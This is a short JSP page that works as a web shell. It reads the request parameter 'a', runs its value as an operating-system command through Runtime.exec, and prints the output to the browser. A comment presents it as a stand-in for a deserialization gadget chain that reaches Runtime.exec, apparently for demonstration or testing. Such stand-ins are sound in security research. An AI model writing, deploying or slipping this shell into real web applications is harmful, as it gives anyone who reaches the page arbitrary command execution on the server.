<%@ page import="java.util.*" %><%
  // Stands for an object stream that a gadget chain turns into a call of Runtime.exec.
  String[] argv = request.getParameterValues("a");
  Process process = argv.length == 1 ? Runtime.getRuntime().exec(argv[0]) : Runtime.getRuntime().exec(argv);
  process.getOutputStream().close();
  out.print(new String(process.getInputStream().readAllBytes()));
%>
